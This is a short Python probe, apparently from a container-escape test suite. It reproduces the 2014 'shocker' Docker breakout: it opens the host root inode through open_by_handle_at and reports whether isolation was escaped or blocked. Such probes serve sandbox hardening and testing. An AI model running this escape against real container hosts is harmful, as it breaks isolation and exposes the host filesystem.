"""Open a file by its inode number instead of its name.

origin: the shocker exploit against Docker, 2014 (open_by_handle_at)
why: handles ignore the root directory altogether
control: needs root
"""

import struct


def attack(target):
    mount, error = openat(target, "/", os.O_RDONLY | os.O_DIRECTORY)
    handle = ctypes.create_string_buffer(struct.pack("=Ii8s", 8, 1, struct.pack("=II", 2, 0)), 24)
    fd, error = syscall(target, "open_by_handle_at", max(mount, 0), handle, os.O_RDONLY | os.O_DIRECTORY)
    return escaped("the root inode was opened") if fd >= 0 or error == "ESTALE" else blocked("open_by_handle_at", error)
